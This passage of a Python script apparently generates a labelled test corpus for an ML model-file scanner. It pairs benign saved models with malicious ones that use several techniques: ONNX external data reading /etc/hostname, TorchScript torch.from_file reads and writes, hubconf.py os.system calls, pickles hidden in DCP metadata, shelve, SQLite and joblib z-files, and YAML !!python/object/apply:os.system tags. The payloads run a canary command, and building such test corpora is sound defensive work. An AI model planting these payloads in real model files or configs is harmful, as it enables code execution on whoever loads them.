    branch = onnx_graph([onnx_node("Identity", ["b"], [], ("w",))], "then",
                        (onnx_external_tensor("w", up),), ("b",))
    other = onnx_graph([onnx_node("Identity", ["e"], [], ("w2",))], "else",
                       (onnx_external_tensor("w2", "weights.bin"),), ("e",))
    if_node = onnx_node("If", ["y"], [_pb(1, "then_branch") + _pb(6, branch) + _pb(20, 5),
                                      _pb(1, "else_branch") + _pb(6, other) + _pb(20, 5)], ("cond",))
    c.mal("if_subgraph.onnx", onnx_model(onnx_graph([if_node], "g", inputs=("cond",))), cls, "onnx",
          "If.then_branch subgraph initializer with external data '../' out of the folder")
    many = onnx_node("ConstantOfShape", ["y"], [_pb(1, "value") + _pb(10, onnx_external_tensor("t0", secret))
                                                 + _pb(10, onnx_external_tensor("t1", "/etc/hostname"))
                                                 + _pb(20, 9)], ("shape",))
    body = onnx_graph([many], "body", outputs=("y",), inputs=("i", "c"))
    loop = onnx_node("Loop", ["y"], [_pb(1, "body") + _pb(6, body) + _pb(20, 5)], ("M", "cond"))
    c.mal("loop_tensors.onnx", onnx_model(onnx_graph([loop], "g", inputs=("M", "cond"))), cls,
          "onnx", "Loop body node attribute 'tensors' (TENSORS) with external data /etc/hostname")
    fconst = onnx_node("Constant", ["o"], [_pb(1, "value") + _pb(5, onnx_external_tensor("f", secret))
                                           + _pb(20, 4)])
    func = _pb(1, "Leak") + _pb(5, "o") + _pb(7, fconst) + _pb(9, _pb(1, "") + _pb(2, 17)) + _pb(10, "d")
    call_node = onnx_node("Leak", ["y"], []) + _pb(7, "d")
    c.mal("function_body.onnx", onnx_model(onnx_graph([call_node], "g"), (func,)), cls, "onnx",
          "model-local function body Constant with external data at an absolute /tmp path")


def torchscript_file_ops(c: Corpus) -> None:
    """TorchScript code may call aten::from_file: read any file, or with shared=True map it
    writable so an in-place op changes the file on disk when forward runs."""
    import torch

    cls = "torchscript-file-op"

    class Reader(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            leak = torch.from_file("/tmp/mlsecops-d-canary/secret.bin", False, 16, dtype=torch.uint8)
            return x + leak.sum()

    class Writer(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            m = torch.from_file("/tmp/mlsecops-d-canary/target.bin", True, 8, dtype=torch.uint8)
            m.fill_(65)
            return x

    torch.jit.script(Reader()).save(str(c.path("malicious", "ts_from_file.pt")))
    c.add("malicious", "ts_from_file.pt", cls, "torchscript",
          "scripted forward calls torch.from_file on a /tmp path (reads any file)")
    torch.jit.script(Writer()).save(str(c.path("malicious", "ts_mmap_write.pt")))
    c.add("malicious", "ts_mmap_write.pt", cls, "torchscript",
          "scripted forward maps a /tmp file shared=True and fill_()s it (writes the file)")


def torch_hub_repo(c: Corpus) -> None:
    """torch.hub.load(dir, name, source='local') imports the folder's hubconf.py."""
    cls = "torch-hub-hubconf"
    top = f"import os\n\ndependencies = ['torch']\nos.system({CANARY!r})\n\n\ndef tiny():\n    return None\n"
    entry = ("dependencies = ['torch']\n\n\ndef tiny(pretrained=True):\n"
             f"    __import__('subprocess').getoutput({CANARY!r})\n    return None\n")
    for rel, src, tech in [("hub_import", top, "hubconf.py runs os.system at import"),
                           ("hub_entry", entry, "hubconf.py entrypoint calls subprocess via __import__")]:
        c.path("malicious", f"{rel}/hubconf.py").write_text(src)
        c.path("malicious", f"{rel}/README.md").write_text("# tiny model\n")
        c.add("malicious", rel, cls, "torch-hub-folder", tech)



def dcp_metadata(c: Corpus) -> None:
    """torch.distributed.checkpoint's FileSystemReader.read_metadata pickle.load()s the hidden
    '.metadata' file (and '__<rank>.metadata') of a DCP folder; the .distcp shards are real."""
    import torch
    import torch.distributed.checkpoint as dcp

    cls = "dcp-metadata-pickle"
    for rel, name, payload, tech in [
        ("dcp_global", ".metadata", system_pickle(),
         "DCP folder whose hidden .metadata is a pickle calling posix.system"),
        ("dcp_rank_local", "__0.metadata", getoutput_pickle(),
         "DCP folder with a rank-local __0.metadata pickle calling subprocess.getoutput"),
    ]:
        folder = c.path("malicious", f"{rel}/x").parent
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            dcp.save({"w": torch.arange(4.0)}, checkpoint_id=str(folder))
        if name != ".metadata":
            (folder / ".metadata").unlink()
        (folder / name).write_bytes(payload)
        c.add("malicious", rel, cls, "dcp-folder", tech)


def shelve_dumb(c: Corpus) -> None:
    """shelve over dbm.dumb reads each value at the offset its .dir index names (512-byte
    blocks): the .dat file starts with an innocent pickle, the payload sits at block 1 or 2."""
    import dbm.dumb

    cls = "shelve-dbm-offset"
    innocent = wrap(b"}q\x00X\x07\x00\x00\x00versionq\x01K\x01s")
    for rel, pads, tech in [("shelf_block1", 1, "value 'model' at offset 512 of model.dat"),
                            ("shelf_block2", 2, "value 'model' at offset 1024, two innocent blocks first")]:
        folder = c.path("malicious", f"{rel}/x").parent
        with dbm.dumb.open(str(folder / "model"), "n") as db:
            for i in range(pads):
                db[f"meta{i}".encode()] = innocent
            db[b"model"] = system_pickle() if pads == 1 else exec_pickle()
        c.add("malicious", rel, cls, "shelve-dumb", tech + " (shelve.open unpickles it)")


def sqlitedict_blob(c: Corpus) -> None:
    """sqlitedict (and similar key-value caches) pickle.loads each BLOB they return."""
    import sqlite3

    cls = "sqlite-pickled-blob"
    for rel, table, payload, tech in [
        ("features.sqlite", "unnamed", system_pickle(), "sqlitedict default table, value a pickle"),
        ("embeddings.db", "embeddings", getoutput_pickle(), "sqlitedict named table, value a pickle"),
    ]:
        p = c.path("malicious", rel)
        con = sqlite3.connect(p)
        con.execute(f'CREATE TABLE "{table}" (key TEXT PRIMARY KEY, value BLOB)')
        con.execute(f'INSERT INTO "{table}" VALUES (?, ?)', ("model", payload))
        con.commit()
        con.close()
        c.add("malicious", rel, cls, "sqlite", tech)


def yaml_python_tags(c: Corpus) -> None:
    """yaml.unsafe_load / yaml.Loader (old Lightning hparams, many research configs) build
    Python objects from !!python/ tags."""
    cls = "yaml-python-tag"
    c.mal("hparams.yaml", (f"lr: 0.001\nbatch_size: 32\ncallback: !!python/object/apply:os.system\n"
                           f"- {CANARY}\n").encode(), cls, "yaml",
          "Lightning-style hparams.yaml with !!python/object/apply:os.system")
    c.mal("config.yml", (
        "model:\n  name: tiny\n  hidden: 8\ntrainer: !!python/object/new:subprocess.Popen\n"
        f"  args: [[sh, -c, '{CANARY}']]\n").encode(), cls, "yaml",
        "config.yml with !!python/object/new:subprocess.Popen")
    c.mal("trainer.yaml", (
        "optimizer: adam\nactivation: !!python/name:os.system\n"
        "on_load: !!python/object/apply:subprocess.getoutput\n"
        f"  args: ['{CANARY}']\n").encode(), cls, "yaml",
        "trainer.yaml with !!python/name:os.system and an apply of subprocess.getoutput")



def joblib_zfile(c: Corpus) -> None:
    """joblib.load still reads the pre-0.10 'ZF' z-file: 'ZF' + hex length padded to 19 bytes
    (+ an optional space, joblib <= 0.8.4 on Python 2) + a zlib stream, then unpickles it."""
    from joblib.numpy_pickle_compat import _MAX_LEN, write_zfile

    cls = "joblib-zfile-legacy"
    for rel, payload, tech in [
        ("old_format.joblib", system_pickle(), "ZF z-file from joblib's write_zfile, posix.system inside"),
        ("old_format.pkl", getoutput_pickle(), "ZF z-file named .pkl, subprocess pickle inside"),
    ]:
        buf = io.BytesIO()
        write_zfile(buf, payload)
        c.mal(rel, buf.getvalue(), cls, "joblib-zfile", tech)
    payload = exec_pickle()
    blob = b"ZF" + hex(len(payload)).encode().ljust(_MAX_LEN) + b" " + zlib.compress(payload, 9)
    c.mal("old_py2_space.joblib", blob, cls, "joblib-zfile",
          "ZF z-file with the Python 2 extra space before the zlib stream, exec pickle inside")


# --------------------------------------------------------------------------- benign


def benign(c: Corpus, keras: Any | None) -> None:
    import pickle

    import joblib
    import numpy as np
    import pandas as pd
    import torch

    rng = np.random.RandomState(7)
    X = rng.rand(60, 4)
    y = (X[:, 0] + X[:, 1] > 1).astype(int)
    yr = X @ np.array([1.0, -2.0, 0.5, 3.0])

    def ok(rel: str, fmt: str, tech: str) -> None:
        c.add("benign", rel, "benign", fmt, tech)

    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.cluster import Birch
    from sklearn.compose import TransformedTargetRegressor
    from sklearn.ensemble import (
        HistGradientBoostingClassifier,
        IsolationForest,
        StackingClassifier,
    )
    from sklearn.gaussian_process import GaussianProcessRegressor
    from sklearn.gaussian_process.kernels import RBF, WhiteKernel
    from sklearn.isotonic import IsotonicRegression
    from sklearn.kernel_approximation import Nystroem
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.neighbors import KernelDensity, LocalOutlierFactor, NearestCentroid
    from sklearn.neural_network import BernoulliRBM
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import (
        QuantileTransformer,
        SplineTransformer,
        TargetEncoder,
    )
    from sklearn.svm import LinearSVC
    from sklearn.tree import DecisionTreeClassifier

    est = [
        ("isotonic.pkl", "pickle", IsotonicRegression().fit(X[:, 0], yr)),
        ("gp_regressor.joblib", "joblib",
         GaussianProcessRegressor(RBF() + WhiteKernel(), random_state=0).fit(X[:20], yr[:20])),
        ("kde.pkl", "pickle", KernelDensity(bandwidth=0.5).fit(X)),
        ("lof.joblib", "joblib", LocalOutlierFactor(novelty=True).fit(X)),
        ("birch.pkl", "pickle", Birch(n_clusters=3).fit(X)),
        ("hgb.joblib.z", "joblib", HistGradientBoostingClassifier(max_iter=5, random_state=0)
         .fit(X, y)),
        ("calibrated.joblib", "joblib", CalibratedClassifierCV(LinearSVC(random_state=0), cv=3)
         .fit(X, y)),
        ("stacking.pkl", "pickle", StackingClassifier(
            [("t", DecisionTreeClassifier(random_state=0)), ("l", LogisticRegression())],
            cv=3).fit(X, y)),
        ("rbm.pkl", "pickle", BernoulliRBM(n_components=3, random_state=0).fit(X)),
        ("nystroem_ridge.joblib", "joblib", make_pipeline(Nystroem(n_components=10, random_state=0),
                                                          Ridge()).fit(X, yr)),
        ("isolation_forest.joblib", "joblib", IsolationForest(n_estimators=5, random_state=0)
         .fit(X)),
        ("target_encoder.pkl", "pickle", TargetEncoder(random_state=0).fit(
            rng.randint(0, 4, size=(60, 1)), y)),
    ]
    for rel, fmt, obj in est:
        p = c.path("benign", rel)
        if fmt == "pickle":
            p.write_bytes(pickle.dumps(obj, protocol=5))
        elif rel.endswith(".z"):
            joblib.dump(obj, p, compress=("zlib", 3))
        else:
            joblib.dump(obj, p)
        ok(rel, fmt, f"{type(obj).__name__} saved by {fmt}")
    try:
        import skops.io as sio

        for rel, obj in [
            ("spline_ridge.skops", make_pipeline(SplineTransformer(n_knots=4), Ridge()).fit(X, yr)),
            ("quantile.skops", QuantileTransformer(n_quantiles=20).fit(X)),
            ("ttr.skops", TransformedTargetRegressor(regressor=Ridge(), func=None).fit(X, yr)),
            ("nearest_centroid.skops", NearestCentroid().fit(X, y)),
        ]:
            sio.dump(obj, c.path("benign", rel))
            ok(rel, "skops", f"{type(obj).__name__} saved by skops.io.dump")
    except Exception as exc:  # noqa: BLE001 - a saver that cannot write is skipped, not faked
        print(f"skops benign skipped: {exc}", file=sys.stderr)

    idx = pd.period_range("2024-01", periods=6, freq="M")
    frames = [
        ("categorical_period.pkl", pd.DataFrame({
            "c": pd.Categorical(list("abcabc"), categories=list("cba"), ordered=True),
            "v": np.arange(6.0)}, index=idx)),
        ("interval.pkl.gz", pd.Series(np.arange(5), index=pd.interval_range(0, 5))),
        ("tz_timedelta.pkl.xz", pd.DataFrame({
            "t": pd.date_range("2024-03-01", periods=4, freq="h", tz="Europe/Paris"),
            "d": pd.to_timedelta([1, 2, 3, 4], unit="s")})),
        ("nullable.pkl", pd.DataFrame({
            "i": pd.array([1, None, 3], dtype="Int64"),
            "b": pd.array([True, None, False], dtype="boolean"),
            "s": pd.array(["x", None, "z"], dtype="string[python]")})),
        ("sparse_multiindex.pkl.bz2", pd.DataFrame(
            {"s": pd.arrays.SparseArray([0, 0, 1, 0])},
            index=pd.MultiIndex.from_product([["a", "b"], [1, 2]]))),
        ("arrow_strings.pkl", pd.DataFrame({"s": pd.array(["u", "v"], dtype="string[pyarrow]")})),
    ]
    for rel, obj in frames:
        obj.to_pickle(c.path("benign", rel))
        ok(rel, "pandas-pickle", f"{type(obj).__name__} with uncommon dtypes via to_pickle")

    np.save(c.path("benign", "datetimes.npy"),
            np.arange("2024-01-01", "2024-01-11", dtype="datetime64[D]"))
    np.save(c.path("benign", "complex.npy"), (rng.rand(5) + 1j * rng.rand(5)).astype(np.complex64))
    rec = np.rec.fromarrays([np.arange(3), np.array([b"ab", b"cd", b"ef"]), np.ones(3, np.float16)],
                            names="id,tag,w")
    np.save(c.path("benign", "records.npy"), rec)
    np.savez_compressed(c.path("benign", "mixed.npz"), td=np.array([1, 2], "timedelta64[ms]"),
                        b=np.array([True, False]), h=np.ones((2, 2), np.float16))
    c.path("benign", "masked.pkl").write_bytes(pickle.dumps(
        np.ma.masked_array([1.0, 2.0, 3.0], mask=[0, 1, 0]), protocol=4))
    for rel, tech in [("datetimes.npy", "datetime64[D] via np.save"),
                      ("complex.npy", "complex64 via np.save"),
                      ("records.npy", "record array (int, bytes, float16) via np.save"),
                      ("mixed.npz", "timedelta64/bool/float16 via savez_compressed"),
                      ("masked.pkl", "numpy masked array pickled")]:
        ok(rel, "numpy", tech)

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Embedding(10, 4), torch.nn.LSTM(4, 4, batch_first=True))
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    net(torch.randint(0, 10, (2, 3)))[0].sum().backward()
    opt.step()
    torch.save(opt.state_dict(), c.path("benign", "adamw_state.pt"))
    lin = torch.nn.Linear(3, 2)
    sgd = torch.optim.SGD(lin.parameters(), lr=0.1, momentum=0.9)
    sched = torch.optim.lr_scheduler.OneCycleLR(sgd, max_lr=0.5, total_steps=10)
    sgd.step()
    sched.step()
    torch.save({"optimizer": sgd.state_dict(), "scheduler": sched.state_dict(), "epoch": 1},
               c.path("benign", "onecycle_ckpt.pth"))
    cos = torch.optim.lr_scheduler.CosineAnnealingWarmRestarts(sgd, T_0=3)
    torch.save(cos.state_dict(), c.path("benign", "cosine_restarts.pt"))
    torch.save(torch.Generator().manual_seed(3).get_state(), c.path("benign", "generator_state.pt"))
    full = torch.nn.Sequential(torch.nn.Conv1d(2, 2, 3), torch.nn.BatchNorm1d(2),
                               torch.nn.GELU(), torch.nn.LayerNorm(2))
    torch.save(full, c.path("benign", "whole_module.pt"))
    torch.save({"bf16": torch.ones(3, dtype=torch.bfloat16), "c": torch.ones(2, dtype=torch.cfloat),
                "q": torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.quint8)},
               c.path("benign", "dtypes.pt"))
    torch.save(torch.amp.GradScaler("cpu").state_dict(), c.path("benign", "grad_scaler.pt"))
    for rel, tech in [("adamw_state.pt", "AdamW state_dict"),
                      ("onecycle_ckpt.pth", "SGD momentum + OneCycleLR checkpoint"),
                      ("cosine_restarts.pt", "CosineAnnealingWarmRestarts state_dict"),
                      ("generator_state.pt", "torch.Generator state tensor"),
                      ("whole_module.pt", "whole Conv1d/BatchNorm/GELU/LayerNorm module"),
                      ("dtypes.pt", "bfloat16, complex and quantized tensors"),
                      ("grad_scaler.pt", "GradScaler state_dict")]:
        ok(rel, "torch", tech + " via torch.save")

    benign_side_formats(c, rng)
    if keras is None:
        return
    keras.utils.set_random_seed(0)
    inp = keras.Input((8,), dtype="int32")
    x = keras.layers.Embedding(20, 4)(inp)
    x = keras.layers.Conv1D(3, 3, padding="same")(x)
    x = keras.layers.GlobalMaxPooling1D()(x)
    m1 = keras.Model(inp, keras.layers.Dense(1, activation="sigmoid")(x))
    m1.save(c.path("benign", "conv_text.keras"))
    ok("conv_text.keras", "keras", "Embedding/Conv1D/GlobalMaxPooling1D model via save")
    m2 = keras.Sequential([keras.Input((5, 3)), keras.layers.Bidirectional(keras.layers.LSTM(4)),
                           keras.layers.Dropout(0.1), keras.layers.Dense(2)])
    m2.compile(optimizer="rmsprop", loss="mse")
    m2.save(c.path("benign", "bilstm.h5"))
    ok("bilstm.h5", "h5", "Bidirectional LSTM legacy HDF5 with training_config")
    q = keras.Input((4, 6))
    a = keras.layers.MultiHeadAttention(num_heads=2, key_dim=3)(q, q)
    a = keras.layers.LayerNormalization()(keras.layers.Add()([q, a]))
    m3 = keras.Model(q, a)
    m3.compile(optimizer=keras.optimizers.AdamW(1e-3), loss="mae", metrics=["mse"])
    m3.save(c.path("benign", "attention.keras"))
    ok("attention.keras", "keras", "MultiHeadAttention/LayerNormalization compiled model")
    m3.save_weights(c.path("benign", "attention.weights.h5"))
    ok("attention.weights.h5", "h5", "save_weights of the attention model")



def benign_side_formats(c: Corpus, rng: Any) -> None:
    """Benign twins of the side formats above, each from its own library's writer."""
    import dbm.dumb
    import shelve

    import h5py
    import numpy as np
    import pandas as pd
    import torch
    import torch.distributed.checkpoint as dcp
    import yaml

    def ok(rel: str, fmt: str, tech: str) -> None:
        c.add("benign", rel, "benign", fmt, tech)

    folder = c.path("benign", "dcp_checkpoint/x").parent
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"model": torch.nn.Linear(3, 2).state_dict(), "step": torch.tensor(10)},
                 checkpoint_id=str(folder))
    ok("dcp_checkpoint", "dcp-folder", "torch.distributed.checkpoint.save of a state dict")
    shelf = c.path("benign", "shelf/x").parent / "arrays"
    with shelve.Shelf(dbm.dumb.open(str(shelf), "n"), protocol=4) as sh:
        sh["coef"] = rng.rand(3)
        sh["meta"] = {"classes": ["a", "b"], "version": 2}
    ok("shelf", "shelve-dumb", "shelve over dbm.dumb holding numpy arrays and a dict")
    c.path("benign", "hparams.yaml").write_text(yaml.safe_dump(
        {"lr": 0.001, "layers": [8, 4], "optimizer": {"name": "adamw", "betas": [0.9, 0.999]}}))
    ok("hparams.yaml", "yaml", "hyper-parameters written by yaml.safe_dump")
    df = pd.DataFrame({"x": rng.rand(4), "c": pd.Categorical(list("abab"))})
    df.to_parquet(c.path("benign", "table.parquet"))
    ok("table.parquet", "parquet", "DataFrame with a categorical via to_parquet (pyarrow)")
    df.to_feather(c.path("benign", "table.feather"))
    ok("table.feather", "feather", "DataFrame with a categorical via to_feather")
    with h5py.File(c.path("benign", "attrs.h5"), "w") as f:
        f.attrs["TITLE"] = np.bytes_(b"weights.")
        f.attrs["note"] = "trained on synthetic data."
        f.create_dataset("w", data=rng.rand(3, 3))
    ok("attrs.h5", "hdf5", "h5py file whose string attributes end with a period")
    torch.jit.script(torch.nn.Sequential(torch.nn.Linear(3, 3), torch.nn.Tanh())).save(
        str(c.path("benign", "scripted_tanh.pt")))
    ok("scripted_tanh.pt", "torchscript", "torch.jit.script of Linear+Tanh")

# --------------------------------------------------------------------------- main


def load_keras() -> Any | None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    try:
        import keras

        return keras
    except Exception as exc:  # noqa: BLE001 - keras missing only drops its samples
        print(f"keras unavailable, its samples skipped: {exc}", file=sys.stderr)
        return None


def generate(dest: Path) -> Manifest:
    if dest.exists():
        shutil.rmtree(dest)
    c = Corpus(dest)
    keras = load_keras()
    joblib_legacy_wrapper(c)
    npy_descr_grammar(c)
    npz_member_names(c)
    trusted_ctor_callable(c)
    torch_package_shadow(c)
    torch_zip_duplicates(c)
    if keras is not None:
        keras_compile_config(c, keras)
    gguf_named_templates(c)
    hf_side_configs(c)
    hf_additional_templates(c)
    pytables_attr_pickle(c)
    arrow_extension_pickle(c)
    copyreg_extension(c)
    containers(c)
    onnx_external_elsewhere(c)
    torchscript_file_ops(c)
    torch_hub_repo(c)
    dcp_metadata(c)
    shelve_dumb(c)
    sqlitedict_blob(c)
    yaml_python_tags(c)
    joblib_zfile(c)
    benign(c, keras)
    shutil.rmtree(dest / "_work", ignore_errors=True)
    (dest / "manifest.json").write_text(json.dumps(c.manifest, indent=1) + "\n")
    return c.manifest


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("dest", type=Path)
    args = ap.parse_args()
    manifest = generate(args.dest)
    mal = [m for m in manifest if m["label"] == "malicious"]
    classes = {m["class"] for m in mal}
    print(f"wrote {len(mal)} malicious in {len(classes)} classes, "
          f"{len(manifest) - len(mal)} benign to {args.dest}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
